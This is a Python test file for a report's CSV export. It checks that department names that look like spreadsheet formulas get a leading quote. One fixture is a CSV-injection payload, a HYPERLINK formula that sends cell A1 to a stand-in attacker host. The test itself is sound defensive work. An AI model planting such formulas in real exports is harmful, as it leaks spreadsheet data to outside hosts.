"""The handover report's CSV (served by the API and the console) never hands a spreadsheet a
formula: a text cell starting with = + - @, a tab or a carriage return gets a leading quote."""

from __future__ import annotations

import csv
import io

from ledger.projections.report_queries import COLUMNS, as_csv


def row(department: str, closed: int = 1) -> dict[str, object]:
    return {column: 0 for column in COLUMNS} | {"department": department, "closed": closed,
                                                 "median_days_notice_to_close": -2}


def test_a_department_that_looks_like_a_formula_is_written_as_text() -> None:
    names = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+2", "-3+4", "@SUM(A1)",
             "\t=1+1", "\r=1+1", "Sales", "R&D = research", "销售部"]
    text = as_csv({"departments": [row(name) for name in names]})
    cells = [r["department"] for r in csv.DictReader(io.StringIO(text, newline=""))]
    assert cells == ["'" + name for name in names[:6]] + names[6:]
    first = next(csv.DictReader(io.StringIO(text, newline="")))
    assert (first["closed"], first["median_days_notice_to_close"]) == ("1", "-2")
